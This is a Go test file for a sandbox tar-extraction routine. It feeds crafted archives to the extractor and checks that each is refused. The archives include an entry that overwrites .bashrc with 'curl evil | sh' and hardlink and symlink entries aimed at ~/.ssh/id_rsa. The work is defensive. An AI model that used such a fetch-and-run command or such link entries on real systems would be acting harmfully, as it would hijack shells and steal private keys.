package tarcopy

import (
	"archive/tar"
	"bytes"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// home is a destination that looks like a user's home: a dotfile and a
// private key in a 0700 directory, with an old mtime.
func home(t *testing.T) string {
	t.Helper()
	h := filepath.Join(t.TempDir(), "home")
	if err := os.MkdirAll(filepath.Join(h, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(h, ".bashrc"), []byte("orig\n"), 0o644)
	os.WriteFile(filepath.Join(h, ".ssh/id_rsa"), []byte("SECRET\n"), 0o600)
	old := time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)
	os.Chtimes(filepath.Join(h, ".ssh"), old, old)
	return h
}

// checkHome fails unless home is as home() made it, plus only the names in
// allowed (relative to home).
func checkHome(t *testing.T, h string, allowed ...string) {
	t.Helper()
	if b, _ := os.ReadFile(filepath.Join(h, ".bashrc")); string(b) != "orig\n" {
		t.Errorf(".bashrc now %q", b)
	}
	fi, err := os.Lstat(filepath.Join(h, ".ssh"))
	if err != nil || fi.Mode() != fs.ModeDir|0o700 || fi.ModTime().Year() != 2001 {
		t.Errorf(".ssh now %v %v (%v): its mode or time was changed", fi.Mode(), fi.ModTime(), err)
	}
	var st unix.Stat_t
	if err := unix.Lstat(filepath.Join(h, ".ssh/id_rsa"), &st); err != nil || st.Nlink != 1 {
		t.Errorf(".ssh/id_rsa has %d names (%v): a hardlink to it was made", st.Nlink, err)
	}
	ents, _ := os.ReadDir(h)
	for _, e := range ents {
		ok := e.Name() == ".bashrc" || e.Name() == ".ssh"
		for _, a := range allowed {
			ok = ok || e.Name() == a
		}
		if !ok {
			t.Errorf("%s written in the destination", e.Name())
		}
	}
}

func wantRefused(t *testing.T, err error, entry string) {
	t.Helper()
	var te *Error
	if !errors.As(err, &te) {
		t.Fatalf("err = %v, want a refusal of %q", err, entry)
	}
	if te.Entry != entry {
		t.Errorf("refused %q, want %q (%v)", te.Entry, entry, err)
	}
}

// TestHeldToTheEntry (H2): `msbctl cp sb:/out.txt ~` extracts into an
// existing directory; the stream may write out.txt and nothing else there,
// whatever order it sends its other names in.
func TestHeldToTheEntry(t *testing.T) {
	reg, dir, lnk := byte(tar.TypeReg), byte(tar.TypeDir), byte(tar.TypeLink)
	attack := []ent{
		{name: ".bashrc", typ: reg, body: "curl evil | sh\n"},
		{name: ".ssh/", typ: dir},
		{name: "loot", link: ".ssh/id_rsa", typ: lnk},
	}
	for i, a := range attack {
		for _, first := range []bool{false, true} {
			ents := []ent{{name: "out.txt", typ: reg, body: "hi\n"}, a}
			if first {
				ents = []ent{a, ents[0]}
			}
			h := home(t)
			wantRefused(t, Extract(craft(ents...), h, Options{Top: "out.txt"}), a.name)
			checkHome(t, h, "out.txt")
			if !first {
				// Without Top, the first entry's name holds the rest.
				h := home(t)
				wantRefused(t, Extract(craft(ents...), h, Options{}), a.name)
				checkHome(t, h, "out.txt")
			}
			_ = i
		}
	}
	// A directory's contents ("DIR/.") go into the destination by any name,
	// as asked; and the control: the named entry lands.
	h := home(t)
	if err := Extract(craft(ent{name: "./", typ: dir}, ent{name: "new", typ: reg, body: "n"}), h, Options{Top: "."}); err != nil {
		t.Fatal(err)
	}
	if err := Extract(craft(ent{name: "out.txt", typ: reg, body: "hi\n"}), h, Options{Top: "out.txt"}); err != nil {
		t.Fatal(err)
	}
	checkHome(t, h, "out.txt", "new")
	// A contents stream where one entry was asked for, and the reverse.
	wantRefused(t, Extract(craft(ent{name: "./", typ: dir}), h, Options{Top: "out"}), "./")
}

// TestHardlinkOnlyToWhatThisCopyMade (H2): inside the copied entry too, a
// hardlink may not give a second name to a file that was there before.
func TestHardlinkOnlyToWhatThisCopyMade(t *testing.T) {
	reg, dir, lnk := byte(tar.TypeReg), byte(tar.TypeDir), byte(tar.TypeLink)
	dest := t.TempDir()
	os.MkdirAll(filepath.Join(dest, "proj"), 0o755)
	os.WriteFile(filepath.Join(dest, "proj/key"), []byte("SECRET"), 0o600)
	err := Extract(craft(ent{name: "proj/", typ: dir}, ent{name: "proj/loot", link: "proj/key", typ: lnk}), dest, Options{Top: "proj"})
	wantRefused(t, err, "proj/loot")
	if _, err := os.Lstat(filepath.Join(dest, "proj/loot")); err == nil {
		t.Error("proj/loot was made")
	}
	// The control: a link to a file of this copy's.
	err = Extract(craft(ent{name: "proj/f", typ: reg, body: "data"}, ent{name: "proj/h", link: "proj/f", typ: lnk}), dest, Options{Top: "proj"})
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(dest, "proj/h")); string(b) != "data" {
		t.Errorf("proj/h reads %q", b)
	}
	// To a new name too (the top renamed): the target is mapped the same way.
	err = Extract(craft(ent{name: "proj/f", typ: reg, body: "d2"}, ent{name: "proj/h", link: "proj/f", typ: lnk}), filepath.Join(dest, "renamed"), Options{Top: "proj"})
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(dest, "renamed/h")); string(b) != "d2" {
		t.Errorf("renamed/h reads %q", b)
	}
}

// TestExistingDirsKeepModeAndTime (H2): a directory header for a directory
// that was there before changes neither its mode nor its mtime; one this
// copy made gets the stream's.
func TestExistingDirsKeepModeAndTime(t *testing.T) {
	dest := t.TempDir()
	os.MkdirAll(filepath.Join(dest, "out/sub"), 0o700)
	old := time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)
	os.Chtimes(filepath.Join(dest, "out/sub"), old, old)
	os.Chtimes(filepath.Join(dest, "out"), old, old)
	mt := time.Date(2020, 2, 2, 0, 0, 0, 0, time.UTC)
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, n := range []string{"out/", "out/sub/", "out/new/"} {
		tw.WriteHeader(&tar.Header{Name: n, Typeflag: tar.TypeDir, Mode: 0o777, ModTime: mt})
	}
	tw.Close()
	if err := Extract(&b, dest, Options{Top: "out"}); err != nil {
		t.Fatal(err)
	}
	for n, want := range map[string]struct {
		mode fs.FileMode
		year int
	}{"out": {0o700, 0}, "out/sub": {0o700, 2001}, "out/new": {0o777, 2020}} {
		// out's mtime moves with out/new made in it, as any write there.
		fi, err := os.Stat(filepath.Join(dest, n))
		if err != nil || fi.Mode().Perm() != want.mode || want.year != 0 && fi.ModTime().Year() != want.year {
			t.Errorf("%s: %v %v (%v), want %v %d", n, fi.Mode(), fi.ModTime(), err, want.mode, want.year)
		}
	}
}

// TestSymlinkChainsStayInside (M1): a symlink that climbs after a name is
// refused, in either order of the links it chains through; a symlink out of
// the copied entry into the rest of the destination is refused too.
func TestSymlinkChainsStayInside(t *testing.T) {
	dir, sym := byte(tar.TypeDir), byte(tar.TypeSymlink)
	up := ent{name: "out/d/s", link: "..", typ: sym}
	chain := ent{name: "out/t", link: "d/s/../../.ssh/id_rsa", typ: sym}
	for _, order := range [][]ent{{up, chain}, {chain, up}} {
		h := home(t)
		dest := filepath.Join(h, "work/newdir")
		os.MkdirAll(filepath.Dir(dest), 0o755)
		ents := append([]ent{{name: "out/", typ: dir}, {name: "out/d/", typ: dir}}, order...)
		wantRefused(t, Extract(craft(ents...), dest, Options{Top: "out"}), "out/t")
		if b, err := os.ReadFile(filepath.Join(dest, "t")); err == nil {
			t.Errorf("newdir/t reads %q", b)
		}
	}
	h := home(t)
	wantRefused(t, Extract(craft(ent{name: "out/", typ: dir}, ent{name: "out/k", link: "../.ssh/id_rsa", typ: sym}), h, Options{Top: "out"}), "out/k")
	checkHome(t, h, "out")
	// The controls: climbing first, a chain through a link, a link to the
	// entry itself.
	dest := t.TempDir()
	err := Extract(craft(
		ent{name: "out/", typ: dir},
		ent{name: "out/f", typ: tar.TypeReg, body: "f"},
		ent{name: "out/d/", typ: dir},
		ent{name: "out/d/s", link: "..", typ: sym},
		ent{name: "out/d/up", link: "./../f", typ: sym},
		ent{name: "out/e", link: "d/s/f", typ: sym},
	), dest, Options{Top: "out"})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"out/d/up", "out/e"} {
		if b, _ := os.ReadFile(filepath.Join(dest, n)); string(b) != "f" {
			t.Errorf("%s reads %q", n, b)
		}
	}
}

// TestRepeatedDirsKeptOnce (L2): a stream repeating a directory header keeps
// one record of it, and none of a directory it did not make.
func TestRepeatedDirsKeptOnce(t *testing.T) {
	dest := t.TempDir()
	os.MkdirAll(filepath.Join(dest, "out/old"), 0o755)
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for range 5000 {
		for _, n := range []string{"out/", "out/old/", "out/" + strings.Repeat("a", 200) + "/"} {
			tw.WriteHeader(&tar.Header{Name: n, Typeflag: tar.TypeDir, Mode: 0o755})
		}
	}
	tw.Close()
	x := newExtractor(Options{Top: "out"})
	fd, err := openRoot(dest, false)
	if err != nil {
		t.Fatal(err)
	}
	x.root = fd
	defer unix.Close(x.root)
	if err := x.run(tar.NewReader(&b)); err != nil {
		t.Fatal(err)
	}
	if len(x.dirs) != 1 || len(x.created) != 1 {
		t.Errorf("%d directory records (%d made) from 15000 headers of 3 directories, 1 of them new: want 1", len(x.dirs), len(x.created))
	}
}

// TestSparseRefused (L2): a sparse entry (GNU type S, or PAX GNU.sparse
// records) whose holes would be written out in full is refused: a few KB
// of stream must not fill the disk with zeros.
func TestSparseRefused(t *testing.T) {
	const logical = 64 << 20
	// PAX: archive/tar does not write GNU.sparse records, so a same-length
	// placeholder is renamed in the encoded stream.
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Name: "pax", Typeflag: tar.TypeReg, Size: 1, PAXRecords: map[string]string{
		"XXX.sparse.numblocks": "1", "XXX.sparse.size": "67108864", "XXX.sparse.map": "67108863,1"}})
	tw.Write([]byte("x"))
	tw.Close()
	pax := bytes.ReplaceAll(b.Bytes(), []byte("XXX.sparse."), []byte("GNU.sparse."))

	// GNU type S: one 1-byte block at the end of a 64 MiB file.
	b.Reset()
	tw = tar.NewWriter(&b)
	tw.WriteHeader(&tar.Header{Name: "gnu", Typeflag: tar.TypeReg, Size: 1, Format: tar.FormatGNU})
	tw.Write([]byte("x"))
	tw.Close()
	gnu := b.Bytes()
	blk := gnu[:512]
	blk[156] = tar.TypeGNUSparse
	copy(blk[386:398], "00377777777\x00") // offset logical-1
	copy(blk[398:410], "00000000001\x00") // 1 byte
	copy(blk[483:495], "00400000000\x00") // real size: logical
	copy(blk[148:156], "        ")
	sum := 0
	for _, c := range blk {
		sum += int(c)
	}
	copy(blk[148:156], []byte(strings.Repeat("0", 6-len(octal(sum)))+octal(sum)+"\x00 "))

	for name, stream := range map[string][]byte{"pax": pax, "gnu": gnu} {
		// The stream is valid and says what the test says it does.
		tr := tar.NewReader(bytes.NewReader(stream))
		h, err := tr.Next()
		if err != nil || h.Size != logical {
			t.Fatalf("%s: crafted stream reads as %v, %v", name, h, err)
		}
		dest := t.TempDir()
		wantRefused(t, Extract(bytes.NewReader(stream), dest, Options{Top: name}), name)
		if fi, err := os.Stat(filepath.Join(dest, name)); err == nil {
			t.Errorf("%s: written, %d bytes", name, fi.Size())
		}
	}
}

func octal(n int) string {
	s := ""
	for ; n > 0; n /= 8 {
		s = string(rune('0'+n%8)) + s
	}
	return s
}

// TestNoFollowDest (L3's extractor half): with NoFollowDest a symlink at the
// destination or on the way to it is refused, not followed.
func TestNoFollowDest(t *testing.T) {
	base := t.TempDir()
	target := filepath.Join(base, "target")
	os.Mkdir(target, 0o755)
	os.Symlink(target, filepath.Join(base, "in"))
	mk := func() io.Reader { return craft(ent{name: "f", typ: tar.TypeReg, body: "x"}) }
	for _, dest := range []string{filepath.Join(base, "in"), filepath.Join(base, "in/sub")} {
		err := Extract(mk(), dest, Options{Top: "f", NoFollowDest: true})
		if err == nil || !strings.Contains(err.Error(), "symlink") {
			t.Errorf("%s: err = %v, want a refusal naming the symlink", dest, err)
		}
	}
	if ents, _ := os.ReadDir(target); len(ents) != 0 {
		t.Errorf("the copy followed the symlink: %v", ents)
	}
	// The control: the same copy to the real path lands.
	if err := Extract(mk(), target, Options{Top: "f", NoFollowDest: true}); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(target, "f")); string(b) != "x" {
		t.Errorf("target/f reads %q", b)
	}
}
